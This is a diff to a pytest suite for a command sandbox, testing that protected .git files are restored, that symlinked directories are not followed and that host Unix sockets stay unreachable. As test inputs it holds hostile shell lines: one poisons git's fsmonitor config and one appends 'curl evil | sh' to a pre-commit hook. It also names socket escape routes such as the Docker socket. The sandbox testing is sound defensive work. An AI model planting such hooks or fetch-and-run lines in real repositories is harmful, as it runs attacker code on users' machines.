@@ -17,7 +17,7 @@ from pathlib import Path
 
 import psutil
 import pytest
-from _helpers import git_workspace, home_with_key
+from _helpers import UnixListeners, git_workspace, home_with_key, unix_clients
 from _helpers import sandbox_or_skip as _sandbox
 from _helpers import world_policy as _policy
 
@@ -115,25 +115,39 @@ def test_git_config_and_rc_files_are_protected(confined: Sandbox, world) -> None
 
 
 def test_moving_the_directory_above_a_protected_path_is_undone(confined: Sandbox, world) -> None:
-    """A read-only mount cannot be moved, its parent can: a fresh `.git` with a new config."""
+    """A read-only mount cannot be moved, its parent could: a fresh `.git` with a new config.
+    bwrap makes every directory above a protected path a mount point too (the move is
+    refused); Landlock cannot, and puts the protected paths back afterwards."""
     git = world["ws"] / ".git"
     cfg, hook = git / "config", git / "hooks" / "pre-commit"
     before = (cfg.read_bytes(), hook.read_bytes())
     r = confined.run("mv .git .git-old && mkdir .git && cp -r .git-old/. .git/ && "
                      "echo '[core] fsmonitor = touch /tmp/pwned' >> .git/config && "
                      "echo 'curl evil | sh' >> .git/hooks/pre-commit && echo DONE", _policy(world))
-    assert "DONE" in r.stdout, r        # the swap itself works inside the sandbox…
-    assert (cfg.read_bytes(), hook.read_bytes()) == before   # …and is undone before we return
-    assert r.violations, r
+    if confined.tier is Tier.BWRAP:     # refused: .git is a mount point inside
+        assert "Device or resource busy" in r.stderr and "DONE" not in r.stdout, r
+        assert not (world["ws"] / ".git-old").exists(), r
+    else:
+        assert "DONE" in r.stdout, r    # the swap itself works inside the sandbox…
+        assert r.violations, r          # …and is undone before we return
+    assert (cfg.read_bytes(), hook.read_bytes()) == before
 
 
 def test_a_swapped_directory_is_never_followed_when_restoring(confined: Sandbox, world) -> None:
     """Restoring through a directory the command turned into a symlink would write (as us,
-    unconfined) wherever it points: reported, not followed."""
+    unconfined) wherever it points: the link is removed, never followed, and the protected
+    paths are put back in a plain directory again (left, it led the host's git elsewhere)."""
+    git = world["ws"] / ".git"
+    before = ((git / "config").read_bytes(), (git / "hooks" / "pre-commit").read_bytes())
     r = confined.run(f"mv .git .git-old && ln -s {world['outside']} .git", _policy(world))
-    assert r.exit_code == 0, r
     assert list(world["outside"].iterdir()) == []
-    assert any("could not be undone" in v for v in r.violations), r
+    assert git.is_dir() and not git.is_symlink(), r
+    assert ((git / "config").read_bytes(), (git / "hooks" / "pre-commit").read_bytes()) == before
+    if confined.tier is Tier.BWRAP:     # refused: .git is a mount point inside
+        assert "Device or resource busy" in r.stderr, r
+        return
+    assert r.exit_code == 0, r
+    assert any(".git/config was restored" in v for v in r.violations), r
 
 
 def test_ssh_key_in_fake_home_is_unreadable(confined: Sandbox, world) -> None:
@@ -184,6 +198,35 @@ def test_tcp_connect_works_when_network_is_granted(confined: Sandbox, world, lis
     r = confined.run(_connect_cmd(listener.getsockname()[1]), _policy(world, network=True))
     assert r.exit_code == 0, r
     assert _accepted(listener)
+
+
+@pytest.fixture
+def unix_listeners(world, tmp_path):
+    """An agent's socket under the fake HOME, nscd's under a directory outside /tmp standing
+    for /run (/var/tmp: bwrap's /tmp is private), and an abstract one, all listening."""
+    (world["home"] / ".ssh").mkdir(exist_ok=True)
+    (world["var"] / "nscd").mkdir()
+    paths = {"home": world["home"] / ".ssh" / "agent.sock", "run": world["var"] / "nscd" / "socket"}
+    listeners = UnixListeners(paths, f"shellgate-escape-{os.getpid()}-{tmp_path.name}")
+    yield listeners
+    listeners.close()
+
+
+def test_no_host_unix_socket_is_reached_without_the_network(confined: Sandbox, world,
+                                                             unix_listeners) -> None:
+    """``ssh-add -l``, ``curl --unix-socket /var/run/docker.sock``, nscd asked to resolve a
+    name: the host's Unix sockets are reached through the filesystem, which no read-only
+    mount closes to connect(). With the network off no Unix socket is made at all."""
+    r = confined.run(unix_clients(unix_listeners.targets), _policy(world))
+    assert "reached" not in r.stdout, r.stdout
+    assert unix_listeners.settle() == [], f"{confined.tier} let a Unix socket through: {r.stdout}"
+
+
+def test_a_unix_socket_is_reached_when_network_is_granted(confined: Sandbox, world,
+                                                          unix_listeners) -> None:
+    r = confined.run(unix_clients(unix_listeners.targets), _policy(world, network=True))
+    assert "reached" in r.stdout, r
+    assert "run" in unix_listeners.settle()
 
 
 def test_user_namespace_escape_is_refused(any_tier: Sandbox, world) -> None:
